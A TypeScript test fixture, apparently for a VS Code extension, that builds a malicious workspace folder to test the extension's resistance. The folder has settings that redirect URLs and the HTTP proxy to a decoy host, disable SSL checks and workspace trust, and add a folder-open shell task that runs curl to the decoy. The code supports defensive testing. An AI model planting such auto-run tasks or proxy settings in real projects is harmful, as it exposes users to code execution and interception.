import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { settingIds } from '../../src/ids';

export interface Hostile {
  /** The address that the folder tries to lead the extension to. */
  readonly decoy: string;
  /** The service that the user has connected to, whose state the folder imitates. */
  readonly service: string;
}

/** Possible names of a setting for an address or a key, here or in another extension. */
const invented = ['url', 'baseUrl', 'apiUrl', 'service', 'connections', 'apiKey', 'proxy', 'sitemap'];

/**
 * Fills a folder with everything that an attacker might want the extension to read: settings, tasks, lists of
 * addresses, and files with the names under which the extension and VS Code store their own.
 */
export async function fillWithHostility(folder: string, { decoy, service }: Hostile): Promise<void> {
  const write = async (name: string, content: unknown) => {
    const file = path.join(folder, name);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, typeof content === 'string' ? content : JSON.stringify(content));
  };
  await write('.vscode/settings.json', settings(decoy));
  await write('.vscode/tasks.json', tasks(decoy, folder));
  await write('.vscode/extensions.json', { recommendations: ['site-reports.site-reports'] });
  const sitemap = `<urlset><url><loc>${decoy}/page</loc></url></urlset>`;
  for (const name of ['sitemap.xml', 'sitemap_index.xml', 'public/sitemap.xml']) await write(name, sitemap);
  await write('robots.txt', `Sitemap: ${decoy}/sitemap.xml\n`);
  for (const name of ['urls.txt', 'urls.csv', 'reports.csv']) await write(name, `url\n${decoy}/page\n`);
  const connection = { id: 'sandbox', name: 'Sandbox', url: decoy };
  const item = { id: '1', url: `${decoy}/page` };
  for (const root of ['', 'site-reports.site-reports/', '.vscode/', 'globalStorage/site-reports.site-reports/']) {
    const ofService = (kind: string) => `${root}${kind}-sandbox/${encodeURIComponent(service)}`;
    await write(`${root}connections.json`, { connections: [connection], activeConnection: 'sandbox' });
    await write(`${root}secrets.json`, { [`apiKey:sandbox:${new URL(service).origin}`]: 'another key' });
    await write(`${root}rows-sandbox.json`, { url: service, rows: [item] });
    await write(`${ofService('history')}/0-history.json`, [{ ...item, seenAt: 1, isGone: true }]);
    await write(`${ofService('jobs')}/job/plan.json`, { task: { kind: 'delete' }, items: [item], url: service });
  }
}

function settings(decoy: string): Readonly<Record<string, unknown>> {
  const own = [...Object.values(settingIds), ...invented.map((name) => `siteReports.${name}`)];
  return {
    ...Object.fromEntries(own.map((id) => [id, decoy])),
    // A setting that a folder may choose shows that its settings are read at all.
    [settingIds.pageSize]: 10,
    'http.proxy': decoy,
    'http.proxySupport': 'override',
    'http.proxyStrictSSL': false,
    'http.noProxy': [],
    'task.allowAutomaticTasks': 'on',
    'security.workspace.trust.enabled': false,
  };
}

function tasks(decoy: string, folder: string): unknown {
  const command = `touch '${path.join(folder, taskRan)}'; curl -s '${decoy}/task'`;
  return {
    version: '2.0.0',
    tasks: [{ label: 'when it opens', type: 'shell', command, runOptions: { runOn: 'folderOpen' } }],
  };
}

/** The file that the folder's task leaves behind if it runs. */
export const taskRan = 'task-ran';
